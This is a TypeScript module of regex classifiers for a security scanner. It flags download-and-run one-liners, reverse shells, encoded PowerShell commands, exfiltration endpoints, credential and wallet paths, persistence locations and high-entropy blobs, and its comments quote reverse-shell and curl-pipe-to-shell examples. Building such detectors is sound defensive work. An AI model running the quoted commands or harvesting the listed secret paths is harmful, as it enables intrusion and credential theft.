/**
 * Classifiers for string contents shared by the Python and JavaScript analysers and the text rules: shell
 * one-liners that download and run, reverse shells, encoded commands, exfiltration endpoints, secret and
 * autostart paths, and entropy. Each takes the string's value (escapes already decoded) and says what it is.
 *
 * They classify a string, not its use: "run `curl … | sh`" in a help text matches `downloadAndRunCommand` as
 * much as the same words passed to a shell. Callers decide from context (an argument of exec/spawn/system, a
 * shell script line that is not printed) whether the match is a finding. Every pattern is anchored on a
 * literal word, so a call costs one regex scan of the string, whatever its length.
 */

// ---------------------------------------------------------------------------------------------------------------
// Shell one-liners

const SHELLS = "(?:ba|z|da|k|c|tc|fi)?sh";
const SUDO = String.raw`(?:sudo\s+(?:-\S+\s+)*)?`;
/** An interpreter reading its program from stdin: `python3`, `python3 -`, `node`, but not `python -m json.tool`. */
const STDIN_INTERPRETER = String.raw`(?:python[0-9.]*|perl|ruby|node|php)(?:\s+-(?=[\s;&|)"'\x60]|$)|(?=\s*(?:[;&|)"'\x60]|$)))`;

/**
 * Each classifier first tests a plain alternation of the words its patterns need (a few times faster than the
 * full pattern): most strings the analysers hand in are identifiers, messages and paths that contain none.
 */
const DOWNLOAD_HINT = /curl|wget|fetch|iwr|irm|invoke-|webclient|downloadfile/i;
const REVERSE_SHELL_HINT = /\/dev\/(?:tcp|udp)|nc|netcat|socat|mkfifo|socket|pty\.spawn|tcpclient/i;
const ENCODED_HINT =
  /powershell|pwsh|base64|certutil|mshta|rundll32|regsvr32|decode|decompress|unhexlify|fromhex|atob|hex/i;
const ENDPOINT_HINT =
  /discord|slack|telegram|paste|hastebin|ghostbin|rentry|controlc|termbin|bashupload|anonfiles|gofile|ix\.io|transfer\.sh|0x0\.st|file\.io|temp\.sh|oshi\.at|tmpfiles|catbox|ngrok|cloudflare|serveo|loca\.lt|localtunnel|localhost\.run|lhr\.|pagekite|bore\.pub|portmap|playit|tunnelmole|webhook|pipedream|requestbin|oast|interact|burpcollaborator|dnslog|ceye|canarytokens|requestrepo|beeceptor|requestcatcher|hookb|:\/\/[^/\s]*\d\.\d/i;
const SECRET_HINT =
  /ssh|aws|azure|gcloud|kube|docker|npmrc|pypirc|netrc|credentials|yarnrc|login data|cookies|local state|web data|user data|firefox|key4|leveldb|local storage|wallet|exodus|electrum|ethereum|coinomi|armory|nkbihfbeogaeaoehlefnkodbefgpgknn|bfnaelmomeimhlpmgjnjophhpkkoljpa|hnfanknocfeofbddgcijnmhnfnkdnaad|ejbalbakoplchlghecdalmeeeajnimhm|fhbohimaelbohpjbbldcngcnapndodjp|ibnejdfjmmkpcnlpebklmnkoeoihofec|keychain/i;

const DOWNLOAD_AND_RUN = new RegExp(
  [
    // curl … | sh, wget -O- … | sudo -E bash -
    String.raw`\b(?:curl|wget|fetch)\b[^|;&\n]*\|\s*${SUDO}${SHELLS}\b`,
    // curl … | python3 -, | perl (the interpreter reads the program from the pipe)
    String.raw`\b(?:curl|wget)\b[^|;&\n]*\|\s*${SUDO}${STDIN_INTERPRETER}`,
    // sh -c "$(curl …)", bash <(curl …), eval "$(wget -qO- …)", source <(curl …), . <(curl …), python -c "$(curl …)"
    String.raw`(?:\b(?:${SHELLS}|eval|source|python[0-9.]*|node|perl|ruby)\b(?:\s+-[a-zA-Z]+)*|(?:^|[\s;&|(])\.)\s*["']?\s*(?:\$\(|<\(|\x60)\s*(?:curl|wget)\b`,
    // PowerShell: iwr … | iex, iex (iwr …), iex (New-Object Net.WebClient).DownloadString(…)
    String.raw`\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|new-object\s+(?:system\.)?net\.webclient)\b[^|\n]*\|\s*(?:iex|invoke-expression)\b`,
    String.raw`\b(?:iex|invoke-expression)\b\s*[([]*\s*(?:iwr|irm|invoke-webrequest|invoke-restmethod)\b`,
    String.raw`\b(?:iex|invoke-expression)\b[^\n]{0,60}?\bnet\.webclient\b[^\n]{0,40}?\.\s*download(?:string|data)\b`,
    // (New-Object Net.WebClient).DownloadFile(url, path); Start-Process path
    String.raw`\.\s*downloadfile\s*\([^\n]*?\b(?:start-process|start|invoke-item)\b`,
    // curl -o f URL && chmod +x f && ./f, wget -O /tmp/x URL; sh /tmp/x
    String.raw`\b(?:curl|wget)\b[^;&|\n]*\s(?:-o|-O|--output|--output-document)\s*\S+[^\n]*?(?:&&|;)\s*(?:chmod\s+\+?[x0-7]+\s+\S+\s*(?:&&|;)\s*)?(?:\.\/|\/tmp\/|\$TMPDIR\/|${SHELLS}\s|nohup\s)`,
    // wget URL && chmod +x f && ./f
    String.raw`\b(?:curl|wget)\b[^\n]*?(?:&&|;)\s*chmod\s+\+?[x0-7]+\s+\S+\s*(?:&&|;)\s*(?:nohup\s+)?(?:\.\/|\/)\S`,
  ].join("|"),
  "i",
);

/** `curl … | sh`, `wget -O- … | bash`, `iwr … | iex`, `curl -o f … && ./f`, …: a shell string that downloads and runs. */
export function downloadAndRunCommand(s: string): string | undefined {
  return DOWNLOAD_HINT.test(s) ? DOWNLOAD_AND_RUN.exec(s)?.[0] : undefined;
}

const REVERSE_SHELL = new RegExp(
  [
    // bash -i >& /dev/tcp/host/port 0>&1, sh -i 5<> /dev/tcp/…
    String.raw`\b${SHELLS}\s+-i\b[^\n]{0,40}?[<>]&?\s*\/dev\/(?:tcp|udp)\/`,
    String.raw`\/dev\/(?:tcp|udp)\/[^\s/]+\/[^\s/]+\s*(?:0>&1|0<&1|<&\d|>&\s*\d)`,
    String.raw`\bexec\s+\d+<>\s*\/dev\/(?:tcp|udp)\/`,
    // nc -e /bin/sh host port, ncat --sh-exec, netcat -c bash
    String.raw`\b(?:nc|ncat|netcat)(?:\.exe)?\b[^\n|;]*\s(?:-[ec]|--exec|--sh-exec)\s*\S*(?:sh|cmd(?:\.exe)?)\b`,
    String.raw`\bsocat\b[^\n]*\bexec:[^\n]*(?:sh|bash)\b`,
    String.raw`\bmkfifo\b[^\n]*\b(?:nc|ncat|netcat)\b`,
    // python -c 'import socket,subprocess,os;s=socket.socket(…);s.connect((…));os.dup2(s.fileno(),0)…'
    String.raw`\bsocket\b[^\n]{0,300}?\.connect\b[^\n]{0,300}?\bdup2\s*\(`,
    String.raw`\bpty\.spawn\s*\(\s*["'](?:\/bin\/)?(?:ba|z)?sh\b`,
    // perl -e 'use Socket;…exec("/bin/sh -i")'
    String.raw`\buse\s+Socket\b[^\n]{0,400}?\bexec\s*\(?\s*["'](?:\/bin\/)?(?:ba)?sh\b`,
    // PowerShell: New-Object Net.Sockets.TCPClient(…) … GetStream … iex
    String.raw`\bnet\.sockets\.tcpclient\s*\([^\n]{0,600}?\b(?:iex|invoke-expression)\b`,
  ].join("|"),
  "i",
);

/** `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh h p`, mkfifo + nc, socat exec:, socket + dup2 one-liners. */
export function reverseShellCommand(s: string): string | undefined {
  return REVERSE_SHELL_HINT.test(s) ? REVERSE_SHELL.exec(s)?.[0] : undefined;
}

const ENCODED_COMMAND = new RegExp(
  [
    String.raw`\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]*\s[-/](?:e|en|enc|enco|encod|encode|encoded|encodedc|encodedco|encodedcom|encodedcomm|encodedcomma|encodedcomman|encodedcommand|ec)\s+["']?[A-Za-z0-9+/=]{8,}`,
    String.raw`\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]*\s[-/](?:w|wi|win|window|windowstyle)\s+(?:h|hi|hid|hidd|hidde|hidden|1)\b`,
    String.raw`\[(?:system\.)?convert\]::frombase64string\b[^\n]*\b(?:iex|invoke-expression)\b`,
    String.raw`\b(?:iex|invoke-expression)\b[^\n]*\[(?:system\.)?convert\]::frombase64string\b`,
    String.raw`\bbase64\s+(?:-d|--decode|-D)\b[^\n]*\|\s*${SUDO}(?:${SHELLS}|python[0-9.]*|perl)\b`,
    String.raw`\bcertutil(?:\.exe)?\b[^\n]*[-/](?:decode|decodehex|urlcache)\b`,
    String.raw`\bmshta(?:\.exe)?\s+["']?(?:https?:|vbscript:|javascript:)`,
    String.raw`\brundll32(?:\.exe)?\b[^\n]*(?:https?:|javascript:)`,
    String.raw`\bregsvr32(?:\.exe)?\b[^\n]*\/i:\s*["']?https?:`,
    // python -c "exec(base64.b64decode('…'))", node -e "eval(Buffer.from('…','base64').toString())"
    String.raw`\bpython[0-9.]*(?:\.exe)?\s+(?:-\w+\s+)*-c\s*[^\n]*\b(?:exec|eval)\s*\([^\n]*\b(?:b64decode|decodebytes|a85decode|b32decode|fromhex|decompress|unhexlify)\b`,
    String.raw`\bnode(?:\.exe)?\s+(?:-\S+\s+)*(?:-e|-p|--eval|--print)\s*[^\n]*\b(?:eval|Function)\s*\([^\n]*(?:\batob\b|["']base64["']|["']hex["'])`,
  ].join("|"),
  "i",
);

/** `powershell -enc …`, `-WindowStyle Hidden`, `base64 -d | sh`, certutil -decode, mshta/rundll32/regsvr32 with a URL. */
export function encodedCommand(s: string): string | undefined {
  return ENCODED_HINT.test(s) ? ENCODED_COMMAND.exec(s)?.[0] : undefined;
}

// ---------------------------------------------------------------------------------------------------------------
// Exfiltration endpoints

export interface Endpoint {
  /**
   * What kind of service: `discord-webhook`, `slack-webhook`, `telegram-bot`, `paste-site`, `tunnel`,
   * `request-capture`, `raw-ip`.
   */
  kind: string;
  match: string;
}

/** A host name ends here: not followed by more of a name. */
const HOST_END = String.raw`(?![\w-]|\.[\w-])`;

const ENDPOINTS: [string, RegExp][] = [
  ["discord-webhook", /\b(?:discord(?:app)?\.com|discord\.gg)\/api\/(?:v\d+\/)?webhooks\/\d*/i],
  [
    "slack-webhook",
    /\bhooks\.slack\.com\/(?:services\/(?!T0+\/)T\w+|workflows\/|triggers\/)|\bhooks\.slack\.com\/services\/?(?=["'\s]|$)/i,
  ],
  ["telegram-bot", /\bapi\.telegram\.org\/(?:file\/)?bot/i],
  [
    "paste-site",
    new RegExp(
      String.raw`\b(?:pastebin\.com\/(?:raw\/|dl\/)?\w|paste\.ee\/[rpd]\/|hastebin\.com\/|ghostbin\.\w+\/|rentry\.(?:co|org)\/|dpaste\.(?:com|org)\/|pastie\.io\/|controlc\.com\/|termbin\.com${HOST_END}|bashupload\.com${HOST_END}|anonfiles\.com${HOST_END}|gofile\.io\/|pastebin\.pl\/|paste\.c-net\.org${HOST_END}|ix\.io\/)` +
        // bare names that are also plausible file names (transfer.sh, file.io): only as a URL's host
        String.raw`|(?:\w:\/\/|\/\/|@)(?:transfer\.sh|0x0\.st|file\.io|temp\.sh|oshi\.at|tmpfiles\.org|catbox\.moe|litterbox\.catbox\.moe|files\.catbox\.moe)${HOST_END}|\b(?:transfer\.sh|0x0\.st|file\.io|temp\.sh)\/\w`,
      "i",
    ),
  ],
  [
    "tunnel",
    new RegExp(
      String.raw`\b[\w-]+\.(?:ngrok\.io|ngrok-free\.app|ngrok\.app|ngrok-free\.dev|ngrok\.dev|trycloudflare\.com|serveo\.net|serveousercontent\.com|loca\.lt|localtunnel\.me|localhost\.run|lhr\.life|lhr\.rocks|pagekite\.me|bore\.pub|portmap\.io|playit\.gg|tunnelmole\.net)${HOST_END}`,
      "i",
    ),
  ],
  [
    "request-capture",
    new RegExp(
      String.raw`\b(?:webhook\.site|[\w-]+\.m\.pipedream\.net|[\w-]+\.pipedream\.net|requestbin\.(?:com|net)|[\w-]+\.x\.pipedream\.net|[\w-]+\.(?:oast\.(?:fun|me|pro|site|live|online)|interact\.sh|interactsh\.com|burpcollaborator\.net|oastify\.com|dnslog\.cn|ceye\.io|canarytokens\.com|requestrepo\.com)|beeceptor\.com|requestcatcher\.com|hookb\.in|eo\w{12,}\.m\.pipedream\.net)${HOST_END}`,
      "i",
    ),
  ],
];

const RAW_IP_URL =
  /\b(?:https?|ftp|tcp|udp|wss?|ssh|telnet):\/\/(?:[^@/\s]*@)?((?:\d{1,3}\.){3}\d{1,3})(?::\d+)?(?=[/?#\s"'`),;\]]|$)/i;

/** A dotted IPv4 address (four parts of 0–255) that is routable on the internet and not a well-known benign one. */
export function isPublicIpv4(ip: string): boolean {
  const m = /^(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})$/.exec(ip);
  if (!m) return false;
  const p = m.slice(1).map(Number) as [number, number, number, number];
  if (p.some((n) => n > 255)) return false;
  if (m.slice(1).some((s) => s.length > 1 && s.startsWith("0"))) return false; // octal-looking: a version, not an IP
  const [a, b, c] = p;
  const nonPublic =
    a === 0 ||
    a === 10 ||
    a === 127 ||
    (a === 169 && b === 254) || // link-local, cloud metadata (169.254.169.254: botocore, google-auth)
    (a === 172 && b >= 16 && b <= 31) ||
    (a === 192 && b === 168) ||
    (a === 100 && b >= 64 && b <= 127) || // CGNAT, Alibaba metadata 100.100.100.200
    (a === 192 && b === 0 && (c === 0 || c === 2)) || // 192.0.0.0/24, TEST-NET-1
    (a === 198 && (b === 18 || b === 19)) || // benchmarking
    (a === 198 && b === 51 && c === 100) || // TEST-NET-2
    (a === 203 && b === 0 && c === 113) || // TEST-NET-3
    a >= 224; // multicast, reserved, broadcast
  if (nonPublic) return false;
  // Public resolvers and placeholders that documentation and network libraries name.
  return !WELL_KNOWN_IPS.has(ip);
}

const WELL_KNOWN_IPS = new Set([
  "1.1.1.1",
  "1.0.0.1",
  "8.8.8.8",
  "8.8.4.4",
  "9.9.9.9",
  "149.112.112.112",
  "208.67.222.222",
  "208.67.220.220",
  "1.2.3.4",
  "4.3.2.1",
  "2.2.2.2",
  "3.3.3.3",
  "4.4.4.4",
  "5.5.5.5",
  "6.6.6.6",
  "7.7.7.7",
  "9.8.7.6",
  "11.11.11.11",
  "12.34.56.78",
  "123.123.123.123",
  "123.45.67.89",
]);

/** An exfiltration or staging service named in the string, or a URL whose host is a public raw IPv4 address. */
export function exfilEndpoint(s: string): Endpoint | undefined {
  if (!ENDPOINT_HINT.test(s)) return undefined;
  for (const [kind, re] of ENDPOINTS) {
    const m = re.exec(s);
    if (m) return { kind, match: m[0] };
  }
  const ip = RAW_IP_URL.exec(s);
  if (ip && isPublicIpv4(ip[1]!)) return { kind: "raw-ip", match: ip[0] };
  return undefined;
}

// ---------------------------------------------------------------------------------------------------------------
// Secret and autostart paths

export type SecretKind = "ssh" | "cloud" | "package-registry" | "browser" | "discord" | "wallet" | "keychain";

/**
 * Paths of credentials. Not secrets: `~/.ssh/known_hosts` and `~/.ssh/config` (host lists that ssh clients read),
 * `authorized_keys` (public keys; writing it is persistence, see `persistenceKind`).
 */
const SECRET_PATHS: [SecretKind, RegExp][] = [
  [
    "ssh",
    /(?:^|[/\\])\.ssh(?:[/\\]?$|[/\\](?:id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?(?:\.pub)?$|identity$|id_\w+$))/i,
  ],
  [
    "cloud",
    /(?:^|[/\\])(?:\.aws[/\\]?(?:credentials|config)?$|\.aws[/\\](?:credentials|config|sso[/\\]cache)|\.azure(?:[/\\]|$)|\.config[/\\]gcloud(?:[/\\]|$)|gcloud[/\\](?:credentials|application_default_credentials|access_tokens\.db)|application_default_credentials\.json$|\.kube[/\\]config$|\.docker[/\\]config\.json$)/i,
  ],
  [
    "package-registry",
    /(?:^|[/\\~])\.(?:npmrc|pypirc|netrc|git-credentials|yarnrc\.yml|gem[/\\]credentials)$/i,
  ],
  [
    "browser",
    /[/\\](?:Login Data|Cookies|Web Data|Local State|Login Data For Account)$|^(?:Login Data|Local State|Login Data For Account|Web Data)$|(?:Google[/\\]Chrome|BraveSoftware[/\\]Brave-Browser|Microsoft[/\\]Edge|Opera Software|Yandex[/\\]YandexBrowser|Chromium|Vivaldi)[/\\]User Data|(?:google-chrome|chromium|BraveSoftware[/\\]Brave-Browser)[/\\](?:Default|Profile)|Mozilla[/\\]Firefox[/\\]Profiles|\.mozilla[/\\]firefox|\bcookies\.sqlite$|\blogins\.json$|\bkey4\.db$/i,
  ],
  [
    "discord",
    /(?:discord(?:canary|ptb)?)[/\\]Local Storage[/\\]leveldb|\bdiscord(?:canary|ptb)?[/\\]Local Storage\b|\bLightcord[/\\]Local Storage\b/i,
  ],
  [
    "wallet",
    /\b(?:Exodus[/\\]exodus\.wallet|Electrum[/\\]wallets|Ethereum[/\\]keystore|Atomic[/\\]Local Storage|Coinomi[/\\]Coinomi|Guarda[/\\]Local Storage|Armory|Bitcoin[/\\]wallets|wallet\.dat)\b|\bnkbihfbeogaeaoehlefnkodbefgpgknn\b|\bbfnaelmomeimhlpmgjnjophhpkkoljpa\b|\bhnfanknocfeofbddgcijnmhnfnkdnaad\b|\bejbalbakoplchlghecdalmeeeajnimhm\b|\bfhbohimaelbohpjbbldcngcnapndodjp\b|\bibnejdfjmmkpcnlpebklmnkoeoihofec\b/i,
  ],
  ["keychain", /(?:Library[/\\]Keychains|login\.keychain(?:-db)?\b)/i],
];

/** The kind of secret a path-like string points at, or undefined. */
export function secretPathKind(s: string): SecretKind | undefined {
  if (s.length > 400 || !SECRET_HINT.test(s)) return undefined;
  for (const [kind, re] of SECRET_PATHS) if (re.test(s)) return kind;
  return undefined;
}

/** Autostart locations, as paths a file is written to or copied into. */
const AUTOSTART_PATHS: [string, RegExp][] = [
  ["Windows Startup folder", /Start Menu[/\\]+Programs[/\\]+Startup\b|\bshell:(?:common )?startup\b/i],
  [
    "registry Run key",
    /\\CurrentVersion\\+(?:Run|RunOnce|RunServices|RunServicesOnce|Policies\\+Explorer\\+Run)\b|\\Windows NT\\+CurrentVersion\\+Winlogon\b/i,
  ],
  ["cron", /(?:^|[\s"'])\/etc\/(?:crontab$|cron\.(?:d|hourly|daily|weekly|monthly)\b)|\/var\/spool\/cron\b/i],
  [
    "shell profile",
    /^(?:\S*[/\\~])?\.(?:bashrc|bash_profile|bash_login|bash_logout|zshrc|zshenv|zprofile|zlogin|profile|kshrc|cshrc|tcshrc)$|(?:^|[/\\])\.config[/\\]fish[/\\]config\.fish$|^\/etc\/(?:profile|bash\.bashrc|bashrc|zshrc|zsh\/zshrc|zprofile|environment)$|^\/etc\/profile\.d\//,
  ],
  ["macOS launch agent", /Library\/Launch(?:Agents|Daemons)\b/],
  ["systemd unit", /(?:\/etc\/systemd\/system\/|\.config\/systemd\/user\/)[^\s]*\.(?:service|timer)\b/],
  ["XDG autostart", /\.config\/autostart\/[^\s]*\.desktop\b|\/etc\/xdg\/autostart\//],
  ["init script", /^\/etc\/(?:rc\.local$|init\.d\/)/],
  ["SSH authorized_keys", /(?:^|[/\\])\.ssh[/\\]authorized_keys2?$/],
  ["PowerShell profile", /^\$PROFILE(?:\.\w+)?$|Microsoft\.PowerShell_profile\.ps1$/i],
];

/** Commands that install something to run later. */
const AUTOSTART_COMMANDS: [string, RegExp][] = [
  [
    "cron",
    /\|\s*(?:sudo\s+)?crontab\b(?!\s+-[lre]\b)|(?:^|[;&(]\s*|\bsudo\s+)crontab(?:\s+-u\s+\S+)?\s+(?:-|[^\s-]\S*)\s*(?:$|[;&|)])/,
  ],
  ["systemd unit", /\bsystemctl\s+(?:--user\s+|--now\s+|--system\s+)*enable\b/],
  ["scheduled task", /\bschtasks(?:\.exe)?\b[^\n]*\/create\b|\bRegister-ScheduledTask\b/i],
  [
    "registry Run key",
    /\breg(?:\.exe)?\s+add\s+["']?HK(?:CU|LM|EY_CURRENT_USER|EY_LOCAL_MACHINE)\\[^\n]*\\CurrentVersion\\+Run/i,
  ],
  ["macOS launch agent", /\blaunchctl\s+(?:load|bootstrap)\b/],
];

/** The kind of autostart location a path names (`~/.bashrc`, a Startup folder, a Run key, …), or undefined. */
export function persistencePathKind(s: string): string | undefined {
  if (s.length > 400) return undefined;
  for (const [kind, re] of AUTOSTART_PATHS) if (re.test(s)) return kind;
  return undefined;
}

/** The kind of autostart a command installs (`| crontab -`, `systemctl enable`, `schtasks /create`, …), or undefined. */
export function persistenceCommandKind(s: string): string | undefined {
  if (s.length > 2000) return undefined;
  for (const [kind, re] of AUTOSTART_COMMANDS) if (re.test(s)) return kind;
  return undefined;
}

/**
 * The kind of autostart location a string names, as a path or as a command, or undefined. A path matches only
 * when it is the whole string (`~/.bashrc`, not `source ~/.bashrc`): callers pass the path a file is written to.
 */
export function persistenceKind(s: string): string | undefined {
  return persistencePathKind(s) ?? persistenceCommandKind(s);
}

// ---------------------------------------------------------------------------------------------------------------
// Entropy

/** Shannon entropy in bits per character (UTF-16 code unit). */
export function shannonEntropy(s: string): number {
  const n = s.length;
  if (!n) return 0;
  const ascii = new Uint32Array(128);
  let other: Map<number, number> | undefined;
  for (let i = 0; i < n; i++) {
    const c = s.charCodeAt(i);
    if (c < 128) ascii[c]!++;
    else {
      other ??= new Map();
      other.set(c, (other.get(c) ?? 0) + 1);
    }
  }
  let h = 0;
  for (let c = 0; c < 128; c++) {
    const k = ascii[c]!;
    if (k) h -= (k / n) * Math.log2(k / n);
  }
  if (other) for (const k of other.values()) h -= (k / n) * Math.log2(k / n);
  return h;
}

/** A base64 (standard or URL-safe) string of at least `min` characters, padding allowed. */
export function looksBase64(s: string, min = 40): boolean {
  return (
    s.length >= min &&
    /^[A-Za-z0-9+/_-]+={0,2}$/.test(s) &&
    /[A-Z]/.test(s) &&
    /[a-z]/.test(s) &&
    /\d/.test(s)
  );
}

/** A hex string of at least `min` characters. */
export function looksHex(s: string, min = 64): boolean {
  return s.length >= min && s.length % 2 === 0 && /^[0-9a-fA-F]+$/.test(s);
}

/**
 * A literal that looks like an encoded or encrypted blob: long, no white space, near-random. Thresholds: 200+
 * characters and more than 5.0 bits per character (random base64 gives ~6, random bytes ~7.5+, English prose and
 * code 4–4.5), 3.7 for hex (random hex gives ~4). Runs of one character (padding, `AAAA…` tables) lower the
 * entropy and are not flagged.
 */
export function looksHighEntropy(s: string): boolean {
  if (s.length < 200 || /\s/.test(s.slice(0, 200))) return false;
  if (looksHex(s, 200)) return shannonEntropy(s) > 3.7;
  return shannonEntropy(s) > 5.0;
}
